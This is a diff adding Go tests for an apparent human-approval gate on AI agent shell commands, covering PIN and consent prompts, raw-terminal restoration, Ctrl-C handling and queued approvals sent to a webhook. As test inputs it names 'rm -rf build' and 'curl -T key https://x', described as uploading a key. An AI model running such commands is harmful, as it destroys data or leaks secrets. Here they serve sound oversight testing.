@@ -2,7 +2,10 @@ package main
 
 import (
 	"bytes"
+	"encoding/json"
 	"errors"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -328,10 +331,10 @@ func TestPromptNoPIN(t *testing.T) {
 }
 
 func TestPromptRawTerminal(t *testing.T) {
-	// An agent's UI may leave the terminal raw: no line editing, Enter
-	// sends CR. The prompt still reads a line, and puts raw mode back.
+	// An agent's UI may leave the terminal raw: no line editing, no
+	// output processing, Enter sends CR. The prompt still shows lines and
+	// reads an answer, and Close puts raw mode back.
 	c := newConsole(t)
-	term := c.useTTY(t)
 	fd := int(c.tty.Fd())
 	tio, err := unix.IoctlGetTermios(fd, unix.TCGETS)
 	if err != nil {
@@ -340,18 +343,28 @@ func TestPromptRawTerminal(t *testing.T) {
 	raw := *tio
 	raw.Lflag &^= unix.ECHO | unix.ICANON | unix.ISIG
 	raw.Iflag &^= unix.ICRNL
+	raw.Oflag &^= unix.OPOST
 	if err := unix.IoctlSetTermios(fd, unix.TCSETS, &raw); err != nil {
 		t.Fatal(err)
 	}
-	ch := ask(term, consent{level: review.B, explanation: "x"})
+	t.Setenv(envTTY, c.tty.Name())
+	t.Setenv("NO_COLOR", "1")
+	term, err := openTerminal()
+	if err != nil {
+		t.Fatal(err)
+	}
+	ch := ask(term, consent{level: review.B, explanation: "line one\nline two"})
+	c.expect("line one\r\nline two\r\n")
 	c.expect("[y/N] ")
 	c.send("y\r")
 	if got := wait(t, ch); got.result != consentApproved {
 		t.Errorf("result = %v, want approved", got.result)
 	}
+	term.Close()
 	after, _ := unix.IoctlGetTermios(fd, unix.TCGETS)
-	if after.Lflag != raw.Lflag || after.Iflag != raw.Iflag {
-		t.Errorf("terminal mode not restored: lflag %#x iflag %#x, want %#x %#x", after.Lflag, after.Iflag, raw.Lflag, raw.Iflag)
+	if after.Lflag != raw.Lflag || after.Iflag != raw.Iflag || after.Oflag != raw.Oflag {
+		t.Errorf("terminal mode not restored: lflag %#x iflag %#x oflag %#x, want %#x %#x %#x",
+			after.Lflag, after.Iflag, after.Oflag, raw.Lflag, raw.Iflag, raw.Oflag)
 	}
 }
 
@@ -624,5 +637,169 @@ func TestPromptReviewWalksPending(t *testing.T) {
 	}
 	if states[id1] != approval.Approved || states[id2] != approval.Denied || states[id3] != approval.Pending {
 		t.Errorf("states = %v", states)
+	}
+}
+
+func TestPromptInterruptRestoresEcho(t *testing.T) {
+	// ^C while the PIN is typed (echo off) ends guard cleanly, with echo
+	// back on; a killed guard would leave the user typing blind.
+	c := newConsole(t)
+	p := startGuard(t, c, t.TempDir(), "pin", "set")
+	c.expect("New PIN: ")
+	c.send("4829\x03")
+	if code := p.wait(t); code != exitGuardFailed {
+		t.Errorf("exit %d, want %d", code, exitGuardFailed)
+	}
+	if got, want := p.stderr.String(), "guard: error: cancelled\n"; got != want {
+		t.Errorf("stderr = %q, want %q", got, want)
+	}
+	tio, err := unix.IoctlGetTermios(int(c.tty.Fd()), unix.TCGETS)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if tio.Lflag&unix.ECHO == 0 {
+		t.Error("terminal echo left off after ^C at the PIN prompt")
+	}
+}
+
+func TestPromptInterruptRefusesConsent(t *testing.T) {
+	home := t.TempDir()
+	id := queue(t, home, approval.Binding{Command: "rm -rf build", Cwd: "/w", Workspace: "/w", Digest: "d"}, review.B)
+	c := newConsole(t)
+	p := startGuard(t, c, home, "approve", id)
+	c.expect("[y/N] ")
+	c.send("\x03")
+	if code := p.wait(t); code != exitNotRun {
+		t.Errorf("exit %d, want %d", code, exitNotRun)
+	}
+	if got, want := p.stderr.String(), "guard: error: not approved\n"; got != want {
+		t.Errorf("stderr = %q, want %q", got, want)
+	}
+}
+
+// xdgHome points guard's config and state dirs at a fresh home.
+func xdgHome(t *testing.T) (cfg, state string) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
+	t.Setenv("XDG_STATE_HOME", filepath.Join(home, ".local", "state"))
+	return filepath.Join(home, ".config", "guard"), filepath.Join(home, ".local", "state", "guard")
+}
+
+type runAsked struct {
+	d   audit.Decision
+	err error
+}
+
+func TestPromptRunConsent(t *testing.T) {
+	cfg, _ := xdgHome(t)
+	c := newConsole(t)
+	t.Setenv(envTTY, c.tty.Name())
+	t.Setenv("NO_COLOR", "1")
+	run := func(level review.Level, head func() (string, error)) chan runAsked {
+		ch := make(chan runAsked, 1)
+		go func() {
+			d, err := askRunConsent(level, "deletes build/", "PROFILE", head, time.Now, 0)
+			ch <- runAsked{d, err}
+		}()
+		return ch
+	}
+	get := func(ch chan runAsked) runAsked {
+		select {
+		case r := <-ch:
+			return r
+		case <-time.After(15 * time.Second):
+			t.Fatal("askRunConsent did not return")
+		}
+		return runAsked{}
+	}
+
+	// B: yes runs.
+	ch := run(review.B, nil)
+	c.expect("Run this? [y/N] ")
+	c.send("y\n")
+	if r := get(ch); r.err != nil || r.d != audit.ApprovedTTY {
+		t.Errorf("B yes = %v, %v; want approved-tty", r.d, r.err)
+	}
+
+	// C without a PIN: not run, with the hint, and nothing asked.
+	if r := get(run(review.C, nil)); r.d != audit.DeniedPIN || r.err == nil || r.err.Error() != "no PIN is set" {
+		t.Errorf("C without a PIN = %v, %v", r.d, r.err)
+	}
+
+	// C with a PIN: yes, the audit head, the PIN.
+	if err := pin.Set(cfg, testPIN); err != nil {
+		t.Fatal(err)
+	}
+	ch = run(review.C, func() (string, error) { return "9c1d2e3f4a5b6c7d8e9f", nil })
+	c.expect("Run this? (level C: consent and PIN) [y/N] ")
+	c.send("y\n")
+	c.expect("audit head: 9c1d2e3f4a5b…")
+	c.expect("PIN: ")
+	c.send(testPIN + "\n")
+	if r := get(ch); r.err != nil || r.d != audit.ApprovedPIN {
+		t.Errorf("C yes + PIN = %v, %v; want approved-pin", r.d, r.err)
+	}
+
+	// C, no: refused.
+	ch = run(review.C, nil)
+	c.expect("[y/N] ")
+	c.send("n\n")
+	var buf bytes.Buffer
+	if r := get(ch); r.d != audit.Refused || report(&buf, r.err) != exitNotRun {
+		t.Errorf("C no = %v, %v; want refused, exit 126", r.d, r.err)
+	}
+
+	// No terminal: pending, for the caller to queue.
+	t.Setenv(envTTY, filepath.Join(t.TempDir(), "missing"))
+	if r := get(run(review.B, nil)); r.d != audit.Pending || !errors.Is(r.err, errNoTerminal) {
+		t.Errorf("no terminal = %v, %v; want pending and errNoTerminal", r.d, r.err)
+	}
+}
+
+func TestPromptQueueApproval(t *testing.T) {
+	_, state := xdgHome(t)
+	got := make(chan approval.WebhookPayload, 1)
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var p approval.WebhookPayload
+		json.NewDecoder(r.Body).Decode(&p)
+		got <- p
+	}))
+	defer srv.Close()
+	var stdout, stderr bytes.Buffer
+	s := &streams{out: &stdout, err: &stderr}
+	req := approval.Request{
+		Created: time.Now(), Level: review.C, Explanation: "uploads a key",
+		Binding: approval.Binding{Command: "curl -T key https://x", Cwd: "/w", Workspace: "/w", Digest: "d"},
+	}
+	code := report(&stderr, queueApproval(s, req, approval.Notifications{Webhook: srv.URL}))
+	if code != exitNotRun {
+		t.Errorf("exit %d, want %d", code, exitNotRun)
+	}
+	list, err := approval.List(filepath.Join(state, "approvals"), time.Now)
+	if err != nil || len(list) != 1 || list[0].State != approval.Pending {
+		t.Fatalf("queue = %+v, %v; want one pending request", list, err)
+	}
+	id := list[0].ID
+	want := "guard: pending: level C needs approval; queued as " + id + "\n" +
+		"guard: hint: run 'guard approve " + id + "' in a terminal, then run the same command again\n"
+	if stderr.String() != want {
+		t.Errorf("stderr = %q, want %q", stderr.String(), want)
+	}
+	if stdout.Len() != 0 {
+		t.Errorf("stdout = %q", stdout.String())
+	}
+	if p := <-got; p.ID != id || p.Command != req.Command {
+		t.Errorf("webhook payload = %+v", p)
+	}
+
+	// A notification that fails is a warning; the request is queued anyway.
+	stderr.Reset()
+	report(&stderr, queueApproval(s, req, approval.Notifications{Webhook: "http://example.com/hook"}))
+	if !strings.HasPrefix(stderr.String(), "guard: warning: approval notification: webhook to example.com: http is allowed only to a loopback address") {
+		t.Errorf("stderr = %q", stderr.String())
+	}
+	if list, _ := approval.List(filepath.Join(state, "approvals"), time.Now); len(list) != 2 {
+		t.Errorf("%d requests queued, want 2", len(list))
 	}
 }
